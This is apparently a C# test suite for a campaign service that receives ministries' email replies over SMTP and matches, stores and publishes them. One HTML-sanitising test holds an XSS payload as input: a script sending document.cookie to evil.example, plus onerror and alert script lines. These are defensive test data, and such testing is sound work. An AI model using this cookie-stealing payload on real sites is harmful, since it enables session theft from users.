using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using Campaign.Tests.Disclosure;
using Campaign.Tests.Infrastructure;
using Campaign.Tests.Receiving;

namespace Campaign.Tests.Replies;

/// <summary>
/// Replies from targets, as a ministry's mail server sends them to the service's own inbound SMTP listener: matched
/// to the campaign and target, kept for admins with their attachments, and quoted on the campaign page only where an
/// organizer published them. A supporter's own mail is never a target's reply.
/// </summary>
public sealed class TargetReplyTests(ReplyingService service) : IClassFixture<ReplyingService>
{
    private static readonly TimeSpan Soon = TimeSpan.FromSeconds(20);

    [Fact]
    public async Task AReplyToALetter_ByInReplyTo_IsListedWithItsCampaignAndTarget()
    {
        var letter = await FirstLetterAsync("in-reply-to@supporters.example");
        var marker = ReplyMail.Marker();

        var reply = await SendAsync(service.ReplyAddress, ReplyMail.Write(TestCampaigns.FirstTargetEmail, service.ReplyAddress,
            $"Re: {letter.Subject}", letter.MessageId, $"Dear campaign,\n\nWe have received your letter. {marker}\n"), marker);

        Assert.Equal("first", reply.GetProperty("targetId").GetString());
        Assert.Equal("First Ministry", reply.GetProperty("targetName").GetString());
        Assert.Equal("reply", reply.GetProperty("kind").GetString());
        Assert.Equal($"Re: {letter.Subject}", reply.GetProperty("subject").GetString());
        var page = await service.Admin.GetStringAsync($"/admin/c/{TestCampaigns.Letter}");
        Assert.Contains(marker, page, StringComparison.Ordinal);
        Assert.Contains("First Ministry", page[page.IndexOf("Replies from targets", StringComparison.Ordinal)..], StringComparison.Ordinal);
    }

    [Fact]
    public async Task AReplyToALettersBounceAddress_WithNoReference_IsListedWithItsTarget()
    {
        var letters = await SignedLetters.SignAndSendAsync(service, TestCampaigns.Letter, "verp@supporters.example", ServiceFixture.Signer("verp@supporters.example"));
        var second = letters.Single(m => TestMailbox.Parse(m).Subject!.EndsWith("의 편지", StringComparison.Ordinal)); // the Korean target: "second"
        var marker = ReplyMail.Marker();

        var reply = await SendAsync(second.MailFrom, ReplyMail.Write(TestCampaigns.SecondTargetEmail, second.MailFrom, "답장", null, $"잘 받았습니다. {marker}"), marker);

        Assert.Equal("second", reply.GetProperty("targetId").GetString());
        Assert.Contains("잘 받았습니다.", reply.GetProperty("text").GetString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task AnAutoReply_IsListedAndMarkedAsOne()
    {
        var letter = await FirstLetterAsync("auto-reply@supporters.example");
        var marker = ReplyMail.Marker();

        var reply = await SendAsync(service.ReplyAddress, ReplyMail.Write(TestCampaigns.FirstTargetEmail, service.ReplyAddress,
            $"Automatic reply: {letter.Subject}", letter.MessageId, $"Thank you for your message. It will be handled in due course. {marker}", automatic: true), marker);

        Assert.Equal("auto_reply", reply.GetProperty("kind").GetString());
        var page = await service.Admin.GetStringAsync($"/admin/c/{TestCampaigns.Letter}");
        var row = page[page.IndexOf($"data-reply=\"{reply.GetProperty("id").GetInt64()}\"", StringComparison.Ordinal)..];
        Assert.StartsWith($"data-reply=\"{reply.GetProperty("id").GetInt64()}\" data-kind=\"auto_reply\"><td>", row, StringComparison.Ordinal);
        Assert.Contains("auto-reply</strong>", row[..row.IndexOf("</tr>", StringComparison.Ordinal)], StringComparison.Ordinal);
    }

    [Fact]
    public async Task AnHtmlOnlyReply_IsReducedToItsWords_WithNoTagOrScript()
    {
        var letter = await FirstLetterAsync("html-reply@supporters.example");
        var marker = ReplyMail.Marker();
        var html = $"""
            <html><head><title>mfa-title</title><style>.x {"{"} color: red {"}"}</style><script>document.location='https://evil.example/?c='+document.cookie</script></head>
            <body><p>Dear campaign,</p><p>We &amp; our partners <b>received</b> it&nbsp;&lt;today&gt;. {marker}</p>
            <p><a href="https://mfa.example/statement">Our statement</a></p><img src=x onerror="alert(1)"><script>alert('again')</script></body></html>
            """;

        var reply = await SendAsync(service.ReplyAddress, ReplyMail.Write(TestCampaigns.FirstTargetEmail, service.ReplyAddress, "Re: letter", letter.MessageId, null, html), marker);

        var text = reply.GetProperty("text").GetString()!;
        Assert.Contains($"We & our partners received it <today>. {marker}", text, StringComparison.Ordinal);
        Assert.Contains("Our statement (https://mfa.example/statement)", text, StringComparison.Ordinal);
        foreach (var hidden in new[] { "<p", "<b>", "script", "document.cookie", "alert", "color: red", "mfa-title", "onerror" })
            Assert.DoesNotContain(hidden, text, StringComparison.OrdinalIgnoreCase);
        // On the admin page the text is text: "<today>" is encoded, nothing of the mail is markup.
        var page = await service.Admin.GetStringAsync($"/admin/c/{TestCampaigns.Letter}");
        Assert.Contains($"it &lt;today&gt;. {marker}", page, StringComparison.Ordinal);
        Assert.DoesNotContain("<today>", page, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Attachments_UpToTheLimit_AreKeptForAdmins_ALargerOneIsListedButNotKept()
    {
        var letter = await FirstLetterAsync("attachments@supporters.example");
        var marker = ReplyMail.Marker();
        var small = Encoding.UTF8.GetBytes($"Official statement {marker}\r\n" + new string('s', 500));
        var large = Encoding.ASCII.GetBytes(new string('L', ReplyingService.AttachmentLimit * 4));

        var reply = await SendAsync(service.ReplyAddress, ReplyMail.Write(TestCampaigns.FirstTargetEmail, service.ReplyAddress, "Re: letter", letter.MessageId,
            $"Please find our statement attached. {marker}", files: [("statement.txt", "text/plain", small), ("scan.pdf", "application/pdf", large)]), marker);

        var files = reply.GetProperty("attachments").EnumerateArray().ToList();
        Assert.Equal(2, files.Count);
        Assert.Equal(("statement.txt", true, small.Length), (files[0].GetProperty("fileName").GetString(), files[0].GetProperty("kept").GetBoolean(), files[0].GetProperty("size").GetInt32()));
        Assert.Equal(("scan.pdf", false, large.Length), (files[1].GetProperty("fileName").GetString(), files[1].GetProperty("kept").GetBoolean(), files[1].GetProperty("size").GetInt32()));
        var download = await service.Admin.GetAsync(files[0].GetProperty("url").GetString());
        Assert.Equal(HttpStatusCode.OK, download.StatusCode);
        Assert.Equal(small, await download.Content.ReadAsByteArrayAsync());
        Assert.Equal("statement.txt", download.Content.Headers.ContentDisposition?.FileName?.Trim('"'));
        var id = reply.GetProperty("id").GetInt64();
        Assert.Equal(HttpStatusCode.NotFound, (await service.Admin.GetAsync($"/api/admin/campaigns/{TestCampaigns.Letter}/replies/{id}/attachments/2")).StatusCode);
        Assert.Equal(HttpStatusCode.Unauthorized, (await service.Client.GetAsync(files[0].GetProperty("url").GetString())).StatusCode);
        var page = await service.Admin.GetStringAsync($"/admin/c/{TestCampaigns.Letter}");
        Assert.Contains("scan.pdf <span class=\"muted\">4,096 bytes: over the limit, not kept", page, StringComparison.Ordinal);
    }

    [Fact]
    public async Task PublishingAnExcerpt_ShowsItOnTheCampaignPageInEachLanguage_AndNothingElseOfAnyReply()
    {
        var letter = await FirstLetterAsync("publish@supporters.example");
        var marker = ReplyMail.Marker();
        const string excerpt = "The Ministry will review the cases of the nine with the authorities concerned.";
        var text = $"Dear Ms Quoted-Supporter {marker},\n\n{excerpt}\n\nOur file number is private-{marker}.";
        Assert.DoesNotContain("Replies from targets", await service.Client.GetStringAsync($"/c/{TestCampaigns.Letter}?lang=en"), StringComparison.Ordinal);

        var reply = await SendAsync(service.ReplyAddress, ReplyMail.Write(TestCampaigns.FirstTargetEmail, service.ReplyAddress, "Re: letter", letter.MessageId, text), marker);
        var id = reply.GetProperty("id").GetInt64();
        // Unpublished, nothing of it is public: not on the page, not in its JSON.
        await Task.Delay(TimeSpan.FromSeconds(1.5)); // past the public list's refresh
        Assert.DoesNotContain(marker, await service.Client.GetStringAsync($"/c/{TestCampaigns.Letter}?lang=en"), StringComparison.Ordinal);
        Assert.DoesNotContain(marker, await service.Client.GetStringAsync($"/api/campaigns/{TestCampaigns.Letter}"), StringComparison.Ordinal);

        var published = await service.Admin.PostAsJsonAsync($"/api/admin/campaigns/{TestCampaigns.Letter}/replies/{id}/publish", new { excerpt = $"  {excerpt}  " });
        Assert.Equal(HttpStatusCode.OK, published.StatusCode);

        var english = await PageShowingAsync("en", excerpt);
        var section = english[english.IndexOf("Replies from targets", StringComparison.Ordinal)..];
        Assert.Contains($"First Ministry, {DateTime.UtcNow:yyyy-MM-dd}:", section, StringComparison.Ordinal);
        Assert.DoesNotContain(marker, english, StringComparison.Ordinal);
        var korean = await PageShowingAsync("ko", excerpt);
        Assert.Contains("대상 기관의 답장", korean, StringComparison.Ordinal);
        Assert.DoesNotContain(marker, korean, StringComparison.Ordinal);
        var json = await service.Client.GetFromJsonAsync<JsonElement>($"/api/campaigns/{TestCampaigns.Letter}");
        var shown = Assert.Single(json.GetProperty("replies").EnumerateArray());
        Assert.Equal((excerpt, "first", "First Ministry"), (shown.GetProperty("excerpt").GetString(), shown.GetProperty("targetId").GetString(), shown.GetProperty("target").GetString()));
        Assert.DoesNotContain(marker, json.GetRawText(), StringComparison.Ordinal);

        Assert.Equal(HttpStatusCode.NoContent, (await service.Admin.PostAsync($"/api/admin/campaigns/{TestCampaigns.Letter}/replies/{id}/unpublish", null)).StatusCode);
        await ServiceFixture.EventuallyAsync(async () => !(await service.Client.GetStringAsync($"/c/{TestCampaigns.Letter}?lang=en")).Contains("Replies from targets", StringComparison.Ordinal),
            Soon, "the unpublished reply leaves the page");
        var audit = (await service.Admin.GetFromJsonAsync<List<JsonElement>>("/api/admin/audit?limit=50"))!;
        foreach (var action in new[] { "publish", "unpublish" })
            Assert.Contains(audit, e => e.GetProperty("action").GetString() == $"POST /api/admin/campaigns/{{slug}}/replies/{{id:long}}/{action}"
                && e.GetProperty("subject").GetString() == $"id={id} slug={TestCampaigns.Letter}");
    }

    [Fact]
    public async Task ASupporterAnsweringTheirConfirmation_IsNoTargetReply_AndIsNeverOnThePage()
    {
        const string email = "answers-back@supporters.example";
        Assert.Equal(HttpStatusCode.Accepted, (await service.SignAsync(TestCampaigns.Letter, ServiceFixture.Signer(email))).StatusCode);
        var confirmation = TestMailbox.Parse(await service.Mailbox.WaitForAsync(m => m.Recipients.Contains(email), Soon));
        var marker = ReplyMail.Marker();

        var answered = ReplyMail.Write(email, service.ReplyAddress, $"Re: {confirmation.Subject}", confirmation.MessageId, $"Is my name shown anywhere? {marker}");
        var unreferenced = ReplyMail.Write(email, service.ReplyAddress, "A question", null, $"Please do not show my name. {marker}");
        foreach (var mail in new[] { answered, unreferenced })
        {
            await using var smtp = await SmtpConversation.OpenAsync(service.InboundPort);
            Assert.StartsWith("250", (await smtp.DeliverAsync(email, [service.ReplyAddress], mail))[^1], StringComparison.Ordinal);
        }

        // Both are kept for an admin, as any reply; neither is a target's reply, so nothing can publish them.
        await ServiceFixture.EventuallyAsync(async () => (await InboundMail.StoredAsync(service, "smtp", marker)).Count == 2, Soon, "both mails stored");
        Assert.Equal(0, await service.QueryScalarAsync<long>("select count(*) from target_replies"
            + " where inbound_mail in (select id from inbound_mail where message = (select id from messages where message_id = @id))", new { id = confirmation.MessageId }));
        foreach (var slug in new[] { TestCampaigns.Letter, TestCampaigns.Petition, ReplyingService.OwnTargetCampaign })
            Assert.DoesNotContain(marker, await service.Admin.GetStringAsync($"/api/admin/campaigns/{slug}/replies"), StringComparison.Ordinal);
        Assert.DoesNotContain(marker, await service.Client.GetStringAsync($"/c/{TestCampaigns.Letter}"), StringComparison.Ordinal);
    }

    [Fact]
    public async Task MailToTheReplyAddress_FromOneTargetsAddress_IsThatTargetsReply_FromAnAddressSharedByCampaignsItIsNone()
    {
        var marker = ReplyMail.Marker();
        var reply = await SendAsync(service.ReplyAddress, ReplyMail.Write($"UN COI <{ReplyingService.OwnTargetEmail}>", service.ReplyAddress,
            "Your campaign", null, $"The Commission has taken note. {marker}"), marker, ReplyingService.OwnTargetCampaign);
        Assert.Equal("office", reply.GetProperty("targetId").GetString());

        // first@ministry.example is a target of several test campaigns: which one it answers is not guessed.
        var shared = ReplyMail.Marker();
        await using (var smtp = await SmtpConversation.OpenAsync(service.InboundPort))
            Assert.StartsWith("250", (await smtp.DeliverAsync(TestCampaigns.FirstTargetEmail, [service.ReplyAddress],
                ReplyMail.Write(TestCampaigns.FirstTargetEmail, service.ReplyAddress, "Hello", null, $"A general note. {shared}")))[^1], StringComparison.Ordinal);
        await ServiceFixture.EventuallyAsync(async () => (await InboundMail.StoredAsync(service, "smtp", shared)).Count == 1, Soon, "the mail stored");
        Assert.DoesNotContain(shared, await service.Admin.GetStringAsync($"/api/admin/campaigns/{TestCampaigns.Letter}/replies"), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Publish_BadInput_Is400NamingTheField_AndAnUnknownReplyIs404()
    {
        var letter = await FirstLetterAsync("bad-publish@supporters.example");
        var marker = ReplyMail.Marker();
        var reply = await SendAsync(service.ReplyAddress, ReplyMail.Write(TestCampaigns.FirstTargetEmail, service.ReplyAddress, "Re: letter", letter.MessageId,
            $"We received the letter. {marker}"), marker);
        var publish = $"/api/admin/campaigns/{TestCampaigns.Letter}/replies/{reply.GetProperty("id").GetInt64()}/publish";

        foreach (var (body, field) in new (object Body, string Field)[]
        {
            (new { excerpt = "   " }, "excerpt"),
            (new { excerpt = 5 }, "excerpt"),
            (new { excerpt = "We will release them tomorrow." }, "excerpt"), // words the target never wrote
            (new { text = "We received the letter." }, "text"),
        })
        {
            var answer = await service.Admin.PostAsJsonAsync(publish, body);
            Assert.Equal(HttpStatusCode.BadRequest, answer.StatusCode);
            Assert.Equal("application/problem+json", answer.Content.Headers.ContentType?.MediaType);
            Assert.True((await answer.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("errors").TryGetProperty(field, out _), $"the problem names {field}");
        }
        Assert.Equal(HttpStatusCode.NotFound, (await service.Admin.PostAsJsonAsync($"/api/admin/campaigns/{TestCampaigns.Letter}/replies/999999/publish", new { })).StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, (await service.Admin.PostAsJsonAsync(publish.Replace(TestCampaigns.Letter, TestCampaigns.Petition, StringComparison.Ordinal), new { })).StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, (await service.Admin.GetAsync("/api/admin/campaigns/no-such-campaign/replies")).StatusCode);
        Assert.Null(reply.GetProperty("excerpt").GetString());
    }

    private async Task<MimeKit.MimeMessage> FirstLetterAsync(string email)
    {
        var letters = await SignedLetters.SignAndSendAsync(service, TestCampaigns.Letter, email, ServiceFixture.Signer(email, share: true));
        return TestMailbox.Parse(letters.Single(m => TestMailbox.Parse(m).Subject!.StartsWith("A letter", StringComparison.Ordinal))); // target "first"
    }

    /// <summary>Delivers the mail to the listener as a remote server would, then finds it in the campaign's replies by its marker.</summary>
    private async Task<JsonElement> SendAsync(string to, byte[] mail, string marker, string slug = TestCampaigns.Letter)
    {
        await using (var smtp = await SmtpConversation.OpenAsync(service.InboundPort))
        {
            var replies = await smtp.DeliverAsync("someone@mail.ministry.example", [to], mail);
            Assert.StartsWith("250", replies[^1], StringComparison.Ordinal);
        }
        JsonElement found = default;
        await ServiceFixture.EventuallyAsync(async () =>
        {
            var list = await service.Admin.GetFromJsonAsync<List<JsonElement>>($"/api/admin/campaigns/{slug}/replies");
            found = list!.FirstOrDefault(r => (r.GetProperty("text").GetString() ?? "").Contains(marker, StringComparison.Ordinal));
            return found.ValueKind == JsonValueKind.Object;
        }, Soon, $"the reply {marker} among {slug}'s replies");
        return found;
    }

    private async Task<string> PageShowingAsync(string language, string excerpt)
    {
        var page = "";
        await ServiceFixture.EventuallyAsync(async () => (page = await service.Client.GetStringAsync($"/c/{TestCampaigns.Letter}?lang={language}")).Contains(excerpt, StringComparison.Ordinal),
            Soon, $"the excerpt on the {language} page");
        return page;
    }
}
